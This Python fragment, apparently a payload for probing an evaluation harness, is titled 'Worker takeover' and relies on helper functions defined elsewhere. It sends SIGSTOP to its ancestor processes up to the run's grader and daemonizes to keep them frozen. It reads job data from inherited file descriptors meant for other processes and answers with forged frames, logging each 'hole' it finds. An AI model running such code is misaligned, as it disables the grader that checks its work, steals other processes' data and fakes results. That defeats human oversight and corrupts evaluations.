# Worker takeover: stop every process above us (up to this run's grader), then, from a detached
# process, keep them stopped, read whatever jobs arrive on inherited descriptors and answer them
# with forged frames. The base is the stub.
import signal as _signal_module
import time as _time

for _pid in _ancestors():
    _signal(_pid, _signal_module.SIGSTOP)

if _daemonize():
    _deadline = _time.monotonic() + 10.0
    _forged = [bytes.fromhex(item) for item in _RT["frames"]]
    while _time.monotonic() < _deadline:
        for _pid in _targets():
            _signal(_pid, _signal_module.SIGSTOP)
        import select as _select

        for _fd in _open_fds():
            try:
                if _select.select([_fd], [], [], 0)[0]:
                    _stolen = _os.read(_fd, 65536)
                    if _stolen:
                        _hole("read %d bytes meant for someone else from fd %d" % (len(_stolen), _fd))
            except Exception:
                pass
        for _frame in _forged:
            _spray(_frame)
        _time.sleep(0.05)
    _finish()
